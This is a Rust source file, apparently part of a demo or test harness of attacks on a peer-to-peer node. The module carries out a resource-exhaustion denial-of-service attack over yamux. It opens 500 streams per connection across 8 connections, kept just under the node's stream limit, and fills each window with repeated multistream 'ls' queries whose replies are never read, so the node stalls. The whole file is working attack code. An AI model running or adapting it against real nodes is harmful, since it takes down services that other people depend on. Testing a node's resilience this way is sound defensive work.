//! Streams that do not go on and whose windows are full. Each asks for the list of protocols over and
//! over, and nobody takes the answers: so the node cannot send them, and stops to read, but yamux has
//! taken a window of questions by then.

use std::{future::pending, io};

use super::{
    Attacker,
    pace::Pace,
    wire::{WINDOW, Wire},
};
use crate::demo::multistream;

pub const CONNECTIONS: u32 = 8;
/// Streams of a connection; the node hangs up at more than 512.
const STREAMS: u32 = 500;
/// Streams that are opened before the first of them is filled.
const BURST: u32 = 50;

pub async fn run(attacker: Attacker, mut wire: Wire, mut pace: Pace) -> io::Result<()> {
    let mut header = Vec::new();
    multistream::line(&mut header, multistream::HEADER);
    let mut question = Vec::new();
    multistream::line(&mut question, "ls");
    let questions = question.repeat((WINDOW - header.len()) / question.len());
    let (mut open, mut due) = (0, 0);
    while open < STREAMS {
        due += pace.due().await;
        if due < BURST {
            continue;
        }
        due -= BURST;
        let streams: Vec<u32> = (0..BURST).map(|_| wire.open(&header)).collect();
        wire.send().await?;
        attacker.tried(BURST.into());
        open += BURST;
        for stream in streams {
            wire.data(stream, &questions);
            wire.send().await?;
        }
    }
    pending().await
}
